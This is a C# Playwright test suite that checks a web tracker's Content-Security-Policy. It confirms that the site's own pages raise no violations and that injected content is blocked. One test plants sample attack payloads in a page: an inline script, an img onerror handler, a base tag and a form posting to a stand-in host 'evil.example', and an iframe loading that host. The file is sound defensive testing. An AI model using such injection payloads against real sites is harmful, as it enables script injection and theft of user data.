using Microsoft.Playwright;
using Xunit;

namespace BazhongTracker.Browser.Tests;

/// <summary>The policy of scripts is enforced: nothing of ours breaks it, and what is planted in a page does not run.</summary>
public sealed class PolicyTests(Visitors visitors, RunningTracker tracker) : IClassFixture<Visitors>
{
    private const string Listen = "window.violations = []; document.addEventListener('securitypolicyviolation', e => window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`))";

    private static Task<string[]> Violations(IPage page) => page.EvaluateAsync<string[]>("() => window.violations");

    [Fact]
    public async Task No_page_breaks_the_policy()
    {
        var found = new List<string>();
        foreach (var (name, path, person) in PagesTests.Pages)
        {
            var visitor = await visitors.Of(person);
            await visitor.Page.AddInitScriptAsync(Listen);
            var answer = await visitor.Page.GotoAsync(path);
            var policy = answer!.Headers.GetValueOrDefault("content-security-policy", "");
            Assert.Contains("script-src 'self' 'nonce-", policy, StringComparison.Ordinal);
            Assert.DoesNotContain("unsafe-eval", policy, StringComparison.Ordinal);
            await visitor.Go(path, isStatic: PagesTests.Static.Contains(name));
            if (await visitor.Page.Locator(".course-box").CountAsync() > 0)
            {
                await Assertions.Expect(visitor.Page.Locator(".course-box[data-live] svg").First).ToBeAttachedAsync();
            }

            found.AddRange((await Violations(visitor.Page)).Select(v => $"{name}: {v}"));
        }

        Assert.True(found.Count == 0, string.Join('\n', found));
    }

    [Fact]
    public async Task A_dialog_a_menu_and_the_search_do_not_break_the_policy()
    {
        await using var reader = await tracker.Visit();
        await reader.Page.AddInitScriptAsync(Listen);
        var page = await reader.Open("/targets");
        await Assertions.Expect(page.Locator("dialog.search[data-live]")).ToHaveCountAsync(1);
        await page.Keyboard.PressAsync("Control+k");
        await page.Locator("dialog.search input").PressSequentiallyAsync("lysr");
        await Assertions.Expect(page.Locator("[role=option][aria-selected=true]")).ToHaveCountAsync(1);
        await page.Keyboard.PressAsync("Escape");
        await page.ClickAsync(".switches summary");

        Assert.Empty(await Violations(page));
    }

    [Theory]
    [InlineData("script", "script-src")]
    [InlineData("handler", "script-src")]
    [InlineData("base", "base-uri")]
    [InlineData("form", "form-action")]
    [InlineData("frame", "frame-src")]
    public async Task What_is_planted_in_a_page_is_blocked(string kind, string directive)
    {
        await using var reader = await tracker.Visit();
        await reader.Page.AddInitScriptAsync(Listen);
        var page = await reader.Open("/targets");
        await page.EvaluateAsync(
            """
            kind => {
              const planted = {
                script: () => { const s = document.createElement('script'); s.textContent = 'window.stolen = 1'; document.body.append(s); },
                handler: () => { const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="window.stolen = 1">'; document.body.append(d); },
                base: () => { document.querySelectorAll('base').forEach(b => b.remove()); const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); },
                form: () => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit(); },
                frame: () => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); },
              };
              planted[kind]();
            }
            """,
            kind);

        await page.WaitForFunctionAsync("directive => window.violations.some(v => v.startsWith(directive))", directive);
        Assert.False(await page.EvaluateAsync<bool>("() => 'stolen' in window"));
        Assert.StartsWith(tracker.Address, page.Url, StringComparison.Ordinal);
        Assert.StartsWith(tracker.Address, await page.EvaluateAsync<string>("() => document.baseURI"), StringComparison.Ordinal);
    }
}
